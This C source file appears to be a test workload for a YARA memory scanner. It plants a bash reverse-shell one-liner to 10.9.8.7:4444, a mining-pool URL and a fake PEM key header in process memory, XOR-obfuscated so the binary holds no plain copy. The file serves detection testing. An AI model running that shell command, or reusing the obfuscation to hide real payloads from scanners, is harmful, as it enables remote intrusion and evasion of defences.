// The YARA testbed workload: plants three strings, each matched by one
// bundled rule, in three kinds of memory (heap, an anonymous mmap, .bss),
// writes where they are to an out file as JSON, then sleeps. The strings are
// kept XOR-ed in the binary and decoded straight into their places, so the
// only copies in memory are the planted ones (the file-backed text of the
// binary holds none).
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define KEY 0x5a

static char bss_slot[4096];

/* Decodes the XOR-ed bytes into dst. */
static void plant(char *dst, const volatile unsigned char *enc, size_t n) {
  for (size_t i = 0; i < n; i++) dst[i] = (char)(enc[i] ^ KEY);
  dst[n] = 0;
}

static unsigned char *encode(const char *hint, size_t n) {
  /* The XOR-ed form is built from the hint with each byte off by one, so the
     plain text never appears in the binary: "cbti" -> "bash". */
  unsigned char *e = malloc(n);
  for (size_t i = 0; i < n; i++) e[i] = (unsigned char)((hint[i] - 1) ^ KEY);
  return e;
}

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  /* Each plain text + 1 per byte. */
  const char *shell_hint = "cbti!.j!?'!0efw0udq021/:/9/805555!1?'2"; /* bash -i >& /dev/tcp/10.9.8.7/4444 0>&1 */
  const char *pool_hint = "tusbuvn,udq;00yns/fybnqmf/ofu;4444";         /* stratum+tcp://xmr.example.net:3333 */
  const char *key_hint = ".....CFHJO!STB!QSJWBUF!LFZ.....\vNJJFpxJCBBLDBRFB23456789:1bcdefg"; /* PEM head + base64 */
  size_t ns = strlen(shell_hint), np = strlen(pool_hint), nk = strlen(key_hint);

  unsigned char *es = encode(shell_hint, ns), *ep = encode(pool_hint, np), *ek = encode(key_hint, nk);
  char *heap = malloc(8192);
  memset(heap, '.', 8192);
  char *anon = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (anon == MAP_FAILED) return 1;
  memset(anon, '.', 1 << 20);
  char *key_at = heap + 1000, *pool_at = anon + 300000, *shell_at = bss_slot + 100;
  plant(key_at, ek, nk);
  plant(pool_at, ep, np);
  plant(shell_at, es, ns);
  memset(es, 0, ns), memset(ep, 0, np), memset(ek, 0, nk);
  free(es), free(ep), free(ek);

  char tmp[512];
  snprintf(tmp, sizeof tmp, "%s.tmp", argv[1]);
  FILE *f = fopen(tmp, "w");
  if (!f) return 1;
  fprintf(f,
          "{\"pid\":%d,\"key\":%lu,\"pool\":%lu,\"shell\":%lu}\n",
          (int)getpid(), (unsigned long)(uintptr_t)key_at, (unsigned long)(uintptr_t)pool_at,
          (unsigned long)(uintptr_t)shell_at);
  fclose(f);
  rename(tmp, argv[1]);
  for (;;) pause();
}
